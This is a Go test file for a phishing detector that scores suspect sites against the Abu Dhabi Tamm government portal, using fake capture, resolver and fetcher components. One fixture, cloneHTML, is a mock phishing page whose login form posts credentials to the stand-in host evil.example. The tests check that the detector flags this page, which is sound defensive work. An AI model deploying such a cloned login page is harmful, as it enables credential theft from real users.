package detector

import (
	"context"
	"errors"
	"image"
	"image/color"
	"image/png"
	"math/rand"
	"os"
	"path/filepath"
	"testing"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/fruzzinn/phishwatch/internal/domain"
	"github.com/fruzzinn/phishwatch/internal/monitoring"
	"github.com/fruzzinn/phishwatch/internal/similarity"
	"github.com/fruzzinn/phishwatch/internal/target"
)

type fakeCapturer struct {
	fail     bool
	captured []string
}

func (f *fakeCapturer) Capture(ctx context.Context, url, outPath string) error {
	if f.fail {
		return errors.New("browser unavailable")
	}
	f.captured = append(f.captured, url)
	img := image.NewRGBA(image.Rect(0, 0, 32, 32))
	for y := 0; y < 32; y++ {
		for x := 0; x < 32; x++ {
			img.Set(x, y, color.RGBA{200, 200, 200, 255})
		}
	}
	out, err := os.Create(outPath)
	if err != nil {
		return err
	}
	defer out.Close()
	return png.Encode(out, img)
}

type fakeResolver struct {
	info domain.DomainInfo
	err  error
}

func (f *fakeResolver) Resolve(ctx context.Context, host string) (domain.DomainInfo, error) {
	info := f.info
	info.Domain = host
	return info, f.err
}

type fakeFetcher struct {
	pages map[string]string
	fail  map[string]bool
}

func (f *fakeFetcher) Fetch(ctx context.Context, url string) (string, error) {
	if f.fail[url] {
		return "", errors.New("connection refused")
	}
	html, ok := f.pages[url]
	if !ok {
		return "", errors.New("no such page")
	}
	return html, nil
}

func testProfile(t *testing.T) *target.Profile {
	t.Helper()
	dir := t.TempDir()
	return &target.Profile{
		Domain: "www.tamm.abudhabi",
		URL:    "https://www.tamm.abudhabi/",
		Pages: map[string]string{
			"main":  "https://www.tamm.abudhabi/",
			"login": "https://www.tamm.abudhabi/en/login",
		},
		Screenshots: map[string]string{
			"main":  filepath.Join(dir, "ref_main.png"),
			"login": filepath.Join(dir, "ref_login.png"),
		},
		TextFingerprints: []string{"Abu Dhabi Government Services", "Tamm"},
		BrandTerms:       []string{"tamm", "abu dhabi"},
	}
}

func newTestDetector(t *testing.T, capturer *fakeCapturer, fetcher *fakeFetcher) *Detector {
	t.Helper()
	return New(
		testProfile(t),
		capturer,
		&fakeResolver{info: domain.DomainInfo{
			IPAddress:   "203.0.113.7",
			CountryCode: "RU",
		}},
		fetcher,
		similarity.SyntheticConfidence{},
		monitoring.NewMetricsFor(prometheus.NewRegistry()),
		zap.NewNop(),
		t.TempDir(),
		DefaultActiveThreshold,
	)
}

const cloneHTML = `<html><body>
	<h1>Tamm - Abu Dhabi Government Services</h1>
	<img src="/tamm-logo.png">
	<form action="https://evil.example/steal" method="post">
		<input name="email"><input type="password">
	</form>
	<a href="https://login.example">login</a>
</body></html>`

const referenceHTML = `<html><body>
	<h1>Tamm - Abu Dhabi Government Services</h1>
	<img src="/tamm-logo.png">
	<form action="/auth" method="post">
		<input name="email"><input type="password">
	</form>
	<a href="https://www.tamm.abudhabi/en">login</a>
</body></html>`

func TestCompositeWeightsProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	for i := 0; i < 200; i++ {
		u := rng.Float64() * 100
		c := rng.Float64() * 100
		v := rng.Float64() * 100
		assert.InDelta(t, 0.3*u+0.4*c+0.3*v, Composite(u, c, v), 1e-9)
	}
}

func TestClassifyBoundaryIsStrict(t *testing.T) {
	d := newTestDetector(t, &fakeCapturer{}, &fakeFetcher{})
	assert.Equal(t, domain.StatusMonitoring, d.Classify(65.0))
	assert.Equal(t, domain.StatusActive, d.Classify(65.01))
	assert.Equal(t, domain.StatusMonitoring, d.Classify(0))
	assert.Equal(t, domain.StatusActive, d.Classify(100))
}

func TestCheckSiteFullAnalysis(t *testing.T) {
	capturer := &fakeCapturer{}
	fetcher := &fakeFetcher{pages: map[string]string{
		"https://tamm-login.example/":        cloneHTML,
		"https://www.tamm.abudhabi/en/login": referenceHTML,
	}}
	d := newTestDetector(t, capturer, fetcher)

	result, err := d.CheckSite(context.Background(), "https://tamm-login.example/", "login")
	require.NoError(t, err)

	assert.True(t, len(result.ID) > 3 && result.ID[:3] == "ps-")
	assert.Equal(t, "tamm-login.example", result.Domain)
	assert.Equal(t, "login", result.TargetPage)

	// Composite is exactly the fixed weighted combination.
	assert.InDelta(t,
		Composite(result.URLSimilarity, result.ContentSimilarity, result.VisualSimilarity),
		result.SimilarityScore, 1e-9)
	assert.Equal(t, d.Classify(result.SimilarityScore), result.Status)

	// The confidence stub tracks the composite.
	want := result.SimilarityScore / 100 * 1.2
	if want > 1 {
		want = 1
	}
	assert.InDelta(t, want, result.MLConfidence, 1e-9)

	// Clone artifacts were picked up.
	assert.True(t, result.HasLoginForm)
	assert.True(t, result.HasTammLogo)
	assert.Contains(t, result.FeaturesDetected, domain.FeatureFakeLogin)
	require.Len(t, result.FormTargets, 1)
	assert.Equal(t, "https://evil.example/steal", result.FormTargets[0].Action)

	// Identical fake frames: full visual similarity.
	assert.InDelta(t, 100, result.VisualSimilarity, 1.0)
	assert.NotEmpty(t, result.ScreenshotPath)
	_, err = os.Stat(result.ScreenshotPath)
	assert.NoError(t, err)

	// Reference screenshot was lazily captured.
	assert.Contains(t, capturer.captured, "https://www.tamm.abudhabi/en/login")

	// Domain metadata came through the resolver.
	assert.Equal(t, "203.0.113.7", result.DomainInfo.IPAddress)
	assert.Equal(t, "RU", result.DomainInfo.CountryCode)
}

func TestCheckSiteScreenshotFailureDegrades(t *testing.T) {
	fetcher := &fakeFetcher{pages: map[string]string{
		"https://tamm-login.example/":        cloneHTML,
		"https://www.tamm.abudhabi/en/login": referenceHTML,
	}}
	d := newTestDetector(t, &fakeCapturer{fail: true}, fetcher)

	result, err := d.CheckSite(context.Background(), "https://tamm-login.example/", "login")
	require.NoError(t, err)

	assert.Zero(t, result.VisualSimilarity)
	assert.Empty(t, result.ScreenshotPath)
	// Other signals are unaffected.
	assert.Greater(t, result.ContentSimilarity, 0.0)
	assert.InDelta(t,
		Composite(result.URLSimilarity, result.ContentSimilarity, 0),
		result.SimilarityScore, 1e-9)
}

func TestCheckSiteFetchFailureDegrades(t *testing.T) {
	fetcher := &fakeFetcher{
		pages: map[string]string{"https://www.tamm.abudhabi/en/login": referenceHTML},
		fail:  map[string]bool{"https://tamm-login.example/": true},
	}
	d := newTestDetector(t, &fakeCapturer{}, fetcher)

	result, err := d.CheckSite(context.Background(), "https://tamm-login.example/", "login")
	require.NoError(t, err)

	assert.Zero(t, result.ContentSimilarity)
	assert.Empty(t, result.HTMLContent)
	assert.Empty(t, result.FeaturesDetected)
	assert.False(t, result.HasLoginForm)
	// URL and visual signals still contribute.
	assert.Greater(t, result.URLSimilarity, 0.0)
	assert.Greater(t, result.VisualSimilarity, 0.0)
}

func TestCheckSiteUnusableURL(t *testing.T) {
	d := newTestDetector(t, &fakeCapturer{}, &fakeFetcher{})
	_, err := d.CheckSite(context.Background(), "not a url", "main")
	assert.Error(t, err)
}
